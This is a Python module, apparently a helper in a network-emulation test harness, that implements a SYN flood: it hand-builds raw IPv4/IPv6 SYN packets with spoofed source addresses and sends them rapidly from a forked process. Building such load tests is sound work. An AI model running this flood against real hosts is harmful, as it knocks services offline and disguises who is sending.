# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""SYNs with the addresses of hosts that do not exist, as fast as one process sends them."""

import contextlib
import multiprocessing
import socket
import struct

from scanner import SYN, words

SOURCES = range(10, 250)  # the last byte
FIRST_PORT = 1024


def checksum(total):
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


class SynFlood:
    """From neighbours of the node to one address. Every SYN is a new connection."""

    def __init__(self, node, address, port=21):
        self.six = ":" in address
        family = socket.AF_INET6 if self.six else socket.AF_INET
        with node.inside():
            self.raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.address = address
        self.network = socket.inet_pton(family, node.ip6 if self.six else node.ip4)[:-1]
        self.target = socket.inet_pton(family, address)
        self.port = port
        self.sent = 0

    def syn(self, number):
        source = self.network + bytes([SOURCES[number % len(SOURCES)]])
        front = struct.pack("!HHIIBBH", FIRST_PORT + number // len(SOURCES), self.port, number, 0, 5 << 4, SYN, 1024)
        total = words(source + self.target) + socket.IPPROTO_TCP + 20 + words(front)
        if self.six:
            header = struct.pack("!IHBB16s16s", 6 << 28, 20, socket.IPPROTO_TCP, 64, source, self.target)
        else:
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, self.target)
        return header + front + struct.pack("!HH", checksum(total), 0)

    def send(self, count):
        for number in range(self.sent, self.sent + count):
            self.raw.sendto(self.syn(number), (self.address, 0))
            self.sent += 1

    @contextlib.contextmanager
    def goes_on(self, count):
        """Up to `count` more are sent meanwhile, by a process of their own."""
        process = multiprocessing.get_context("fork").Process(target=self.send, args=(count,))
        process.start()
        try:
            yield
        finally:
            process.terminate()
            process.join()

    def close(self):
        self.raw.close()
